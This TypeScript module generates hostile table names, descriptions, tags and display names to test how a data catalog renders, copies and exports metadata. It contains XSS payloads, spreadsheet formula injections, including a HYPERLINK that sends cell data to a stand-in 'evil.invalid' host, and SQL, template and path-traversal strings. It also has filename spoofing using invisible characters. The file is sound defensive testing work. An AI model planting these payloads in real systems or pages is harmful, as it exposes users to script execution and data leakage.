import { isEntity } from './records.ts';
import type { EntityRecord, StoredTable } from './types.ts';

/** Changes a plain name that is unique in its schema to another unique one. */
export type Rename = (name: string, nth: number) => string;

function capitalized(word: string): string {
  return word.charAt(0).toUpperCase() + word.slice(1).toLowerCase();
}

/** Index in `ODD_NAMES` of the names that differ from another table's only by case. */
export const CASE_TWIN = 1;

/** Unconventional names, as every grown warehouse has some: written by hand, copied, migrated. */
export const ODD_NAMES: readonly Rename[] = [
  (name, nth) => name + ['.v2', '.bak', '.2024'][nth % 3],
  (name) => name.split('_').map(capitalized).join('_'),
  (name) => name.split('_').map(capitalized).join(''),
];

/** Number of tables with an odd name among this many. */
export function oddCount(tables: number): number {
  return Math.max(tables < 1000 ? 0 : ODD_NAMES.length, Math.round(tables * 0.003));
}

const LONG = 200;
const PADDING = '_with_every_adjustment_and_correction_since_the_migration_of_the_old_platform';

/** Hostile names: markup, formulas, escapes, quotes, other scripts, invisible characters, great length. */
export const HOSTILE_NAMES: readonly Rename[] = [
  ...ODD_NAMES,
  (name, nth) => (nth % 2 ? `${name}/2024/01` : `exports/${name}`),
  (name) => `${name} "final"`,
  (name) => `${name.replaceAll('_', ' ')} (do not use)`,
  (name, nth) => (nth % 2 ? `${name}_100%` : `%2F${name}`),
  (name, nth) => (nth % 2 ? `🔥_${name}` : `${name}_👩‍🚀`),
  (name, nth) => (nth % 2 ? `الطلبات_${name}` : `הזמנות_${name}`),
  (name) => name + PADDING.repeat(3).slice(0, LONG - name.length),
  (name, nth) => `${['=', '+', '-', '@'][nth % 4]}${name}`,
  (name, nth) => (nth % 2 ? `<b>${name}</b>` : `<img src=x onerror=alert(1)>${name}`),
  (name, nth) => (nth % 2 ? `注文_${name}` : `données_${name}`),
  (name) => `${name}\u200B`,
  (name) => `${name}\u202Etxt.exe`,
  (name) => `\\\\${name}\\`,
  (name) => `${name}?q=1&x=${name}#top;`,
  (name) => `'; drop table ${name}; --`,
  (name) => `\${${name}}{{7*7}}`,
  (name) => `../${name}`,
  (name) => ` ${name}\t`,
  (name) => `_Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘_${name}`,
];

/** Number of tables with a hostile name among this many: each kind once if possible, and one in a hundred. */
export function hostileCount(tables: number): number {
  return Math.max(Math.min(HOSTILE_NAMES.length, Math.floor(tables / 3)), Math.round(tables / 100));
}

/** A hostile name for a schema. @param nth number of the schema */
export function hostileName(name: string, nth: number): string {
  return HOSTILE_NAMES[nth % HOSTILE_NAMES.length]?.(name, nth) ?? name;
}

const SENTENCE =
  'Every correction since the migration is written here, one after the other, and nobody has cut it. ';

/** Hostile descriptions and display names: attacks on code that renders, copies or exports them. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<p>Imported from the old wiki: <b>orders</b>.</p>\n<script>alert('not run')</script>\n<p>Ask <a href="javascript:alert(1)">the owners</a>.</p>`,
  '[runbook](javascript:alert(document.cookie)) and [file](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![lineage](https://tracker.invalid/pixel.png?who=reader) <img src=x onerror="alert(1)">',
  '<svg/onload=alert(1)><iframe src="javascript:alert(1)"></iframe><style>*{display:none}</style>',
  '=HYPERLINK("https://evil.invalid/?leak="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Approved \u202Eyltnecer\u202C by \u2066nobody\u2069. Zero\u200B-width\u200D and \uFEFF marks.',
  'الطلبات من المتجر (web shop) 12,480 — שלום — orders',
  'Les commandes de la région 注文データ 🧵👩🏽‍🚀🏳️‍🌈 Größe in cm² Z̷̨͓͝a̸͇͊l̵͙̈́g̶̤̈o̷̳̓',
  'null',
  '   \n\t\n   ',
  `Line one\r\nLine two\rLine three\u2028Line four\u0000\u001B[31mred\u001B[0m`,
  '# '.repeat(40) + 'heading\n' + '> '.repeat(200) + 'quoted\n' + '- '.repeat(200) + 'item',
  '*'.repeat(5_000) + '_'.repeat(5_000) + '['.repeat(2_000),
  '```\nunclosed code\n' + '|a'.repeat(300) + '|\n' + '|-'.repeat(300) + '|',
  'unbrokenwordwithoutasingleblank'.repeat(40),
  SENTENCE.repeat(Math.ceil(100_000 / SENTENCE.length)).slice(0, 100_000),
];

/** Types of tables in no version of the service. */
export const HOSTILE_TABLE_TYPES: readonly string[] = ['DataProduct', '<b>View</b>'];

/**
 * Replaces owners, followers, tags, columns and constraints of the record by hostile ones; mutates `record`.
 * @param drawn random number that selects them
 */
export function hostileRecord(record: StoredTable, drawn: number): StoredTable {
  const change = (member: string, to: (list: readonly unknown[]) => readonly unknown[]) => {
    const list: unknown = record[member];
    if (Array.isArray(list)) record[member] = to(list);
  };
  const renamed = (one: unknown, n: number) => (isEntity(one) ? hostilePerson(one, drawn + n) : one);
  change('owners', (owners) => owners.map(renamed));
  change('followers', (followers) => followers.map(renamed));
  change('tags', (tags) => [...tags, hostileTag(drawn)]);
  change('columns', (columns) => [...columns, hostileColumn(record.fullyQualifiedName)]);
  change('tableConstraints', (constraints) => [...constraints, hostileConstraint('missing_column')]);
  return record;
}

/** Constraints in no version of the service. */
function hostileConstraint(column: string): Record<string, unknown> {
  return { constraintType: 'CHECK_<i>', columns: [column], relationshipType: 'MANY_TO_NOBODY' };
}

/** A column of an unknown type, with a hostile name and description. */
function hostileColumn(parentFqn: string): Record<string, unknown> {
  const name = '<img src=x onerror=alert(2)>';
  return {
    name,
    displayName: '=1+1',
    dataType: 'QUANTUM_STATE',
    dataTypeDisplay: 'quantum<"x">',
    description: HOSTILE_TEXTS[0],
    fullyQualifiedName: `${parentFqn}.${name}`,
    tags: [],
  };
}

/** Hostile values of `displayName` of users and teams; the names stay those of existing ones. */
const HOSTILE_PEOPLE: readonly string[] = [
  '<script>alert(3)</script>',
  '=cmd|calc',
  'Ann\u202Enimda',
  'محمد بن سلمان 🧕',
  '\u200B',
  'O’Brien, "Bob" \\ & <Sons>',
  'Wolfeschlegelsteinhausenbergerdorff'.repeat(6),
];

/** The same person or team with a hostile display name. */
function hostilePerson(person: EntityRecord, drawn: number): EntityRecord {
  return { ...person, displayName: HOSTILE_PEOPLE[drawn % HOSTILE_PEOPLE.length] };
}

/** A tag with a hostile name. */
function hostileTag(drawn: number): Record<string, unknown> {
  const names = ['"<i>PII</i>.Sensitive"', '=Tier', '%2F', 'تصنيف', '🔥'.repeat(30), 'Tier9\u200B'];
  const name = names[drawn % names.length] ?? '';
  return {
    tagFQN: `Hostile.${name}`,
    name,
    displayName: name,
    description: HOSTILE_TEXTS[drawn % HOSTILE_TEXTS.length],
    source: 'Unknown',
    labelType: 'Guessed',
    state: 'Doubted',
    style: { color: 'url(javascript:alert(4))', iconURL: 'javascript:alert(5)' },
  };
}
